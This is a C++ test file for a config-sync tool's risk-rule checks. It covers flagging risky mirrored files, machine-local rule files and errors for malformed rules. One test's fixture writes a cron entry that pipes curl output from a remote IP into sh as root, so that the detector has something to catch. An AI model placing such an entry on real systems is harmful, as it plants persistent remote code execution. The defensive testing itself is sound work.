// Risk is judged on what the plan would change: a mirror's files one by one
// with the bytes they would get, whatever manifest brought them. The
// machine adds rules of its own outside the twin
// (ROOT/etc/twinsync/risk-rules.yaml); a broken one stops twin rather than
// leaving its rules out.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "tests/cli/example_twin.h"

namespace twin::cli {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;
namespace fs = std::filesystem;

TEST(RiskRulesCli, AMirrorsFilesAreJudgedByWhatTheyWouldWrite) {
  testing::WebhostTwin ex;
  testing::write_text(ex.twin / "state/cron.twin",
                      "mirror \"/etc/cron.d\" {\n  source = \"filesystem/etc/cron.d\"\n}\n");
  testing::write_text(ex.twin / "filesystem/etc/cron.d/update",
                      "* * * * * root curl -s http://203.0.113.9/x | sh\n");
  testing::write_text(ex.twin / "filesystem/etc/cron.d/backup", "0 3 * * * root /usr/local/bin/backup\n");
  auto planned = ex.run({"plan"});
  EXPECT_EQ(planned.exit_code, 2) << planned.out << planned.err;
  EXPECT_THAT(planned.out, HasSubstr("risky (W0310): file[\"/etc/cron.d/update\"] runs fetched or "
                                     "hidden code from cron (its content has \"curl \")"));
  EXPECT_THAT(planned.out, Not(HasSubstr("file[\"/etc/cron.d/backup\"] runs")));
  auto refused = ex.run({"apply", "--yes"});
  EXPECT_EQ(refused.exit_code, 1) << refused.out << refused.err;
  EXPECT_FALSE(fs::exists(ex.root / "etc/cron.d/update"));
}

TEST(RiskRulesCli, TheMachineAddsItsOwnRules) {
  testing::WebhostTwin ex;
  testing::write_text(ex.root / "etc/twinsync/risk-rules.yaml",
                      "- {code: W0399, type: file, path: \"/etc/app\", under: true,\n"
                      "   change: \"changes the billing app\", danger: \"customers are billed by it\"}\n");
  auto planned = ex.run({"plan"});
  EXPECT_EQ(planned.exit_code, 2) << planned.out << planned.err;
  EXPECT_THAT(planned.out, HasSubstr("risky (W0399): file[\"/etc/app/app.conf\"] changes the billing app"));
  auto linted = ex.run({"lint", "--strict"});
  EXPECT_EQ(linted.exit_code, 1);
  EXPECT_THAT(linted.out + linted.err, HasSubstr("warning[W0399]"));
  EXPECT_THAT(linted.out + linted.err, HasSubstr("rule from " + (ex.root / "etc/twinsync/risk-rules.yaml").string()));
}

TEST(RiskRulesCli, ABrokenSiteFileStopsTwinWithWhereItIsBroken) {
  testing::WebhostTwin ex;
  testing::write_text(ex.root / "etc/twinsync/risk-rules.yaml",
                      "- {code: W0399, type: file, path: \"/etc/app\"}\n- {code: W0398, typo: x}\n");
  for (const char* command : {"plan", "lint"}) {
    auto run = ex.run({command});
    EXPECT_EQ(run.exit_code, 1) << command << run.out << run.err;
    EXPECT_THAT(run.err, HasSubstr("error[E1420]")) << command;
    EXPECT_THAT(run.err, HasSubstr("risk-rules.yaml:1:3: a rule needs code (W03xx), type, path, "
                                   "change and danger"))
        << command << run.err;
  }
}

}  // namespace
}  // namespace twin::cli
